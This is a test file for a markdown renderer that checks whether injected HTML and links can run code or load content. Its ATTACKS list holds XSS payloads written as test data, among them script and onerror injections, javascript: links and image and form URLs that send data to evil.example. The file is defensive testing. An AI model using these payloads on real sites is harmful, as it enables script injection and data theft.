// @vitest-environment jsdom
import { expect, test } from "vitest";
import { renderMarkdown } from "../../../web/components/text/render-markdown.ts";

/** The elements that a text becomes, as a page would have them. */
function render(text: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = renderMarkdown(text).join("");
  return root;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<iframe src='https://evil.example'></iframe>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](https://ok.example 'a\" onclick=\"alert(1)')",
  "![x](https://evil.example/?secret=1)",
  "![x](javascript:alert(1))",
  "<style>*{display:none}</style>",
  "<form action='https://evil.example'><input name=p></form>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<div style='position:fixed;inset:0'>over everything</div>",
  "<base href='https://evil.example'>",
  "<object data='x'></object><embed src='x'>",
  "<b onmouseover=alert(1)>x</b>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  '<https://evil.example/"onclick=alert(1)>',
  "text <!-- <img src=x onerror=alert(1)> --> text",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<x-custom is=y>z</x-custom>",
];

const SAFE_TAGS = new Set(
  "A P BR HR EM STRONG DEL CODE PRE BLOCKQUOTE UL OL LI H1 H2 H3 H4 H5 H6 TABLE THEAD TBODY TR TH TD".split(
    " ",
  ),
);
const SAFE_ATTRIBUTES = new Set(["href", "title", "start", "align", "target", "rel"]);

test.each(ATTACKS)("nothing of %s can act or load", (attack) => {
  for (const text of [attack, `before ${attack} after`, `- ${attack}`, `> ${attack}`, `# ${attack}`]) {
    for (const element of render(text).querySelectorAll("*")) {
      expect(SAFE_TAGS).toContain(element.tagName);
      for (const { name } of element.attributes) expect(SAFE_ATTRIBUTES).toContain(name);
      if (element.hasAttribute("href")) expect(element.getAttribute("href")).toMatch(/^(https?|mailto):/i);
    }
  }
});

test("raw HTML is shown as the text it is", () => {
  expect(render("a <b>bold</b> claim").textContent?.trim()).toBe("a <b>bold</b> claim");
});

test("links open elsewhere and tell nothing of here", () => {
  const link = render("[docs](https://docs.example)").querySelector("a");
  expect([link?.target, link?.rel]).toEqual(["_blank", "noopener noreferrer"]);
});

test("an address within the page is no link: it would leave the room", () => {
  expect(render("[file](main.py)").querySelector("a")?.hasAttribute("href")).toBe(false);
});

test("an image becomes a link to it", () => {
  const root = render("![a chart](https://x.example/c.png)");
  expect(root.querySelector("img")).toBeNull();
  expect(root.querySelector("a")?.textContent).toBe("a chart");
});

test("prose has its forms", () => {
  const root = render(
    "# T\n\npara **b** *i* `c`\nnext line\n\n- one\n- [x] two\n\n1. a\n\n```py\nx < 1\n```\n\n| h |\n|---|\n| d |",
  );
  for (const tag of ["h1", "p", "strong", "em", "br", "ul", "ol", "pre", "table"]) {
    expect(root.querySelector(tag), tag).not.toBeNull();
  }
  expect(root.querySelector("pre")?.textContent).toBe("x < 1\n");
  expect(root.querySelector("ul")?.textContent).toContain("☑ two");
});

test("growing text changes its last block only", () => {
  const whole = "first\n\nsecond **bold** words\n\n```py\nx = 1\n```";
  for (let end = 1; end < whole.length; end += 1) {
    const now = renderMarkdown(whole.slice(0, end));
    const next = renderMarkdown(whole.slice(0, end + 1));
    expect(next.slice(0, now.length - 1)).toEqual(now.slice(0, -1));
  }
});

test("very long text is shown as it is", () => {
  const root = render(`<b>${"x".repeat(70_000)}`);
  expect(root.textContent?.startsWith("<b>xx")).toBe(true);
  expect(root.querySelector("b")).toBeNull();
});

test("no text is no block", () => {
  expect(renderMarkdown("")).toEqual([]);
  expect(renderMarkdown("  \n ")).toEqual([]);
});
